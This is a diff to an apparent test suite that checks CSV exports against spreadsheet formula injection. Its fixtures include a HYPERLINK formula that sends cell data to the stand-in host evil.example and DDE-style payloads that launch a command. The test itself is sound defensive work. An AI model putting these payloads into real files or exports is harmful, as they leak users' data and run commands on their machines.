@@ -15,7 +15,12 @@ describe('CSV exports and spreadsheet formulas', () => {
   afterAll(() => t.close());
 
   const hostile = [
-    { event_type: 'opened', file_path: '=HYPERLINK("https://evil.example/?"&A1,"x")', tool: '@SUM(1+1)*cmd|\' /C calc\'!A0', operation: '+cmd' },
+    {
+      event_type: 'opened',
+      file_path: '=HYPERLINK("https://evil.example/?"&A1,"x")',
+      tool: "@SUM(1+1)*cmd|' /C calc'!A0",
+      operation: '+cmd',
+    },
     { event_type: '-2+3', file_path: '\t=1+1', tool: '\r=1+1', operation: '=1' },
     { event_type: 'opened', file_path: '＝HYPERLINK("https://evil.example")', tool: '＠SUM(1)', operation: '－1' },
     { event_type: 'opened', file_path: '/home/ada/a=b+c-d@e.py', tool: 'vim', operation: 'open' },
@@ -47,14 +52,20 @@ describe('CSV exports and spreadsheet formulas', () => {
   it('GET /api/patterns/export?format=csv: no cell starts a formula; JSON is unchanged', async () => {
     const u = await registerAndLogin(t);
     await addEvents(t, u, [
-      { event_type: 'opened', file_path: '/x/report.xlsx', tool: '=cmd|\' /C calc\'!A0' },
+      { event_type: 'opened', file_path: '/x/report.xlsx', tool: "=cmd|' /C calc'!A0" },
       { event_type: 'opened', file_path: '/x/-minus.py', tool: '@SUM(1)' },
     ]);
     const records = parseCsvRecords((await get(t, u, '/api/patterns/export?format=csv').expect(200)).text);
     expect(records.map((r) => r.file_extension).sort()).toEqual(['.py', '.xlsx']);
     for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(FORMULA_START);
-    const json = JSON.parse((await get(t, u, '/api/patterns/export?format=json').expect(200)).text) as { file_extension: string; tools: string[] }[];
-    expect(Object.fromEntries(json.map((p) => [p.file_extension, p.tools]))).toEqual({ '.xlsx': ['=cmd|\' /C calc\'!A0'], '.py': ['@SUM(1)'] });
+    const json = JSON.parse((await get(t, u, '/api/patterns/export?format=json').expect(200)).text) as {
+      file_extension: string;
+      tools: string[];
+    }[];
+    expect(Object.fromEntries(json.map((p) => [p.file_extension, p.tools]))).toEqual({
+      '.xlsx': ["=cmd|' /C calc'!A0"],
+      '.py': ['@SUM(1)'],
+    });
   });
 });
 
